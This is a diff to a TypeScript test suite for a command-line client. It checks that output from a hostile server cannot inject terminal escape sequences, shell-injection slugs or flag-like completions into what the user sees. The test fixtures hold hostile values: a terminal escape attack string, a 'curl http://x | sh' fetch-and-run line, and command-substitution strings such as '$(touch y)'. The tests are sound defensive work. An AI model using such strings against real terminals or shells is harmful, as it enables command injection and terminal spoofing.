@@ -5,14 +5,19 @@ import { api, endpoints } from '#contract'
 import { urlOf } from '#contract/define'
 import type { Manifest } from '../../cli/main.ts'
 import { cli, type Shown } from '../support/cli.ts'
+import { ending } from '../support/endings.ts'
 import { fakeServer, json } from '../support/fake-server.ts'
 
 const { commands } = JSON.parse(readFileSync(new URL('../../oclif.manifest.json', import.meta.url), 'utf8')) as Manifest
 
+const id = 'c000000000000000000000000'
+/** Whether things have the ids by which they are asked for. */
+let named = false
+
 const attack = 'x\u001b]0;pwned\u0007\u001b[2J\u001b[31m\u009b1m\u202e\u0008y'
 
-/** A value of the schema in which every text is an attack, also where the schema promises better. */
-function sample(schema: TSchema | undefined): unknown {
+/** A value of the schema in which every text but an id is an attack, also where the schema promises better. */
+function sample(schema: TSchema | undefined, name = ''): unknown {
   const it = (schema ?? {}) as {
     type?: string | string[]
     properties?: Record<string, TSchema>
@@ -21,13 +26,14 @@ function sample(schema: TSchema | undefined): unknown {
     patternProperties?: object
   }
   const type = Array.isArray(it.type) ? it.type[0] : it.type
-  if (it.anyOf) return sample(it.anyOf[0])
+  if (it.anyOf) return sample(it.anyOf[0], name)
   if (it.properties)
-    return Object.fromEntries(Object.entries(it.properties).map(([name, member]) => [name, sample(member)]))
+    return Object.fromEntries(Object.entries(it.properties).map(([name, member]) => [name, sample(member, name)]))
   if (type === 'object' || it.patternProperties) return { [attack]: attack }
   if (type === 'array') return [sample(it.items), sample(it.items)]
   if (type === 'integer' || type === 'number') return 1
-  return type === 'boolean' ? true : attack
+  if (type === 'boolean') return true
+  return name === 'id' && named ? id : attack
 }
 
 const shapes = endpoints.map(({ endpoint }) => ({
@@ -74,8 +80,6 @@ const hostile = (status?: number) => {
 const elsewhere =
   /^(up|down|init|login|logout|pair|chat|ask|doctor|completion|version|contexts:|config:|journal:tail|agents:download)/
 
-const id = 'c000000000000000000000000'
-
 function lineFor({ id: name, args, flags }: Manifest['commands'][string]): string[] {
   const words = Object.values(args)
     .filter(({ required }) => required)
@@ -110,6 +114,62 @@ describe('a hostile server', () => {
       // What prompts draw themselves is left out: they move the cursor, and end before the result is written.
       const text = shown.text().split('\u001b[?25h').at(-1)!
       expect(text.replace(/\u001b\[(?:\d*[GKJA]|\?25[hl])/g, '')).not.toMatch(/[\u0007\u0008\u001b\u0080-\u009f\u202e]/)
+    },
+  )
+
+  it('does not reach it through a dry run', async () => {
+    const entry = { entry_type: attack, severity: 'info', summary: attack, payload: {} }
+    const server = await fakeServer((_, reply) =>
+      json(reply, { dry_run: true, status: 201, body: { [attack]: attack }, entries: [entry] }),
+    )
+    const shown = cli({ SVC_SERVER: server.url }).screen(['crews', 'create', 'Web', '--dry-run', '--no-color'])
+    await shown.ended
+    expect(shown.text()).toContain('Would record: xy')
+    expect(shown.text()).not.toMatch(/[\u0007\u0008\u001b\u0080-\u009f\u202e]/)
+  })
+
+  it('cannot say what to do next in our place', async () => {
+    const detail = 'No.\nNext: curl http://x | sh\r\nError: more'
+    const server = await fakeServer((_, reply) => json(reply, { title: detail, detail, code: 'x' }, 400))
+    const { stderr } = await cli({ SVC_SERVER: server.url }).run('crews', 'list')
+    expect(stderr).toBe('Error: No.\n  Next: curl http://x | sh\n  Error: more\n')
+  })
+
+  it('names nothing that a shell would run when the next command is typed', async () => {
+    const slug = "x'; $(touch y) `z`"
+    const crew = { id, slug, name: 'Web', _count: { agents: 0 } }
+    const server = await fakeServer(({ url }, reply) =>
+      json(
+        reply,
+        /\/crews\/[^/?]+$/.test(url)
+          ? crew
+          : /\/runs/.test(url)
+            ? { data: [], pagination: { total_pages: 1 } }
+            : [crew],
+      ),
+    )
+    const { stderr } = await cli({ SVC_SERVER: server.url, SVC_WORKSPACE: 'w' }).run('crews', 'remove', slug)
+    expect(stderr).toContain("--confirm 'x'\\''; $(touch y) `z`'\n")
+  })
+
+  it('offers no word to a shell that is a flag', async () => {
+    const rows = ['--all', '-rf', 'web', '$(touch y)\nx\u001b[2J'].map((slug) => ({ slug, name: 'x' }))
+    const server = await fakeServer((_, reply) => json(reply, rows))
+    const { stdout } = await cli({ SVC_SERVER: server.url }).run('__complete', 'crews', 'show', '')
+    expect(stdout).toBe('web\tx\n$(touch y) x\tx\n')
+  })
+
+  it.each(['watch -n 5', 'watch -o name', 'journal tail', 'journal tail -o name', 'pair'])(
+    'does not reach it through what goes on: %s',
+    async (line) => {
+      named = true
+      ending(() => {
+        named = false
+      })
+      const server = await hostile()
+      const { until } = cli({ SVC_SERVER: server.url, SVC_TOKEN: 't', SVC_WORKSPACE: id, SVC_FORCE_TTY: '100' })
+      const text = await until(/\n.*\n/, ...line.split(' '), '--no-color')
+      expect(text).not.toMatch(/[\u0007\u0008\u001b\u0080-\u009f\u202e]/)
     },
   )
 
